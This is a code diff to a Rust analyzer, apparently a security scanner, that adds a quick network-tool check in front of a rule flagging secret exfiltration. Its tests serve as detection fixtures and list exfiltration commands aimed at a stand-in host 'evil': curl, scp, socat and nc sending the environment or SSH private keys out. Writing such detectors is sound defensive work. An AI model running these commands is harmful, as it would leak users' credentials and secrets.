@@ -6,6 +6,7 @@ use super::calls::{arg_values, Call};
 use super::flow::{Source, Taint};
 use super::literal::shorten;
 use super::names::credential_paths;
+use super::needles::Grams;
 use super::{taxonomy, Analyzer, Bind, Node, Part, Seen, EVAL_DEPTH, F, K};
 
 /// Distinct environment variables sent in one call before it looks like
@@ -388,12 +389,25 @@ impl<'t> Analyzer<'t> {
     }
 
     /// A command that sends a secret file or the environment with a network
-    /// tool gives MB910.
-    pub(super) fn check_exfil_command(&mut self, lower: &str, node: Node<'t>) {
+    /// tool gives MB910 (`lower` is the line lower-cased, `g` its [`Grams`]).
+    pub(super) fn check_exfil_command(&mut self, lower: &str, g: &Grams, node: Node<'t>) {
+        // A stage's head is a word of the line (grouping only turns
+        // separators into pipes or spaces): a line that holds no network
+        // tool's name has no stage headed by one, and is not split into
+        // statements and stages.
+        if !names_net_tool(lower, g) {
+            return;
+        }
         if let Some(what) = exfil_in_command(lower) {
             self.add("MB910", node, what);
         }
     }
+}
+
+/// Whether a lower-cased command line holds some network tool's name
+/// anywhere (`g` is its [`Grams`]): what [`exfil_in_command`] needs first.
+fn names_net_tool(lower: &str, g: &Grams) -> bool {
+    NET_TOOLS.iter().any(|t| g.contains(lower, t))
 }
 
 /// Does the source text of a command argument name a network tool as a word?
@@ -403,7 +417,7 @@ pub(super) fn mentions_net_tool(text: &str) -> bool {
 }
 
 fn is_secret(word: &str) -> bool {
-    let grams = super::needles::Grams::of(word);
+    let grams = Grams::of(word);
     credential_paths()
         .chain(SYSTEM_SECRETS)
         .any(|p| grams.contains(word, p))
@@ -524,7 +538,7 @@ fn uploaded_secret(stage: &str) -> Option<&str> {
 
 #[cfg(test)]
 mod tests {
-    use super::exfil_in_command;
+    use super::{exfil_in_command, names_net_tool, Grams};
 
     #[test]
     fn command_exfiltration_shapes() {
@@ -539,8 +553,11 @@ mod tests {
             "env | curl -d @- http://evil/",
             "scp ~/.ssh/id_ed25519 me@evil:/loot/",
             "true; cat /proc/self/environ | socat - tcp:evil:80",
+            "(env; cat ~/.ssh/id_rsa) | /usr/bin/nc.openbsd evil 9",
         ] {
             assert!(exfil_in_command(cmd).is_some(), "{cmd}");
+            // The gate in `check_exfil_command` lets every one through.
+            assert!(names_net_tool(cmd, &Grams::of(cmd)), "{cmd}");
         }
         for cmd in [
             "cat /etc/passwd | wc -l",
